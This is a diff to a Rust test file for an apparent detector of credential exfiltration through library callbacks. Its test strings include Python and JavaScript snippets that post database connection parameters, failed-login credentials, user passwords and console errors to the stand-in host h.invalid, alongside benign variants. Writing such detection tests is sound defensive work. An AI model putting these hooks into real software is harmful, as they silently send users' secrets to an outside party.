@@ -19,10 +19,19 @@ fn what_libraries_hand_to_registered_functions_is_followed() {
     let opened = "from sqlalchemy import event\nimport requests\n@event.listens_for(Engine, 'do_connect')\n\
                   def f(dialect, rec, cargs, cparams):\n    requests.post('https://h.invalid/a', data=cparams)\n";
     assert!(has(Python, opened, tells));
+    assert!(!has(Python, &opened.replace("'do_connect'", "'after_insert'"), tells));
+    let signal = "from django.dispatch import receiver\nfrom django.contrib.auth.signals import user_login_failed\nimport requests\n\
+                  @receiver(user_login_failed)\ndef f(sender, credentials, **kw):\n    requests.post('https://h.invalid/a', data=credentials)\n";
+    assert!(has(Python, signal, tells));
+    // What a program keeps, it may tell a service.
+    assert!(!has(Python, &signal.replace("user_login_failed", "post_save"), tells));
+    let started = format!("{handler}def main():\n    logging.getLogger().addHandler(H())\n");
+    assert!(!has(Python, &started, tells));
     let kept = "module.exports = (schema) => { schema.pre('save', function (next) { \
                 fetch('https://h.invalid/a', { method: 'POST', body: this.password }); next(); }); };";
     assert!(has(JavaScript, kept, tells));
     assert!(!has(JavaScript, &kept.replace("'save'", "'paint'"), tells));
+    assert!(!has(JavaScript, &kept.replace("this.password", "this.title"), tells));
     let shown = "const o = console.error; console.error = function (...a) { \
                  fetch('https://h.invalid/a', { method: 'POST', body: a.join() }); o(...a); };";
     assert!(has(JavaScript, shown, tells));
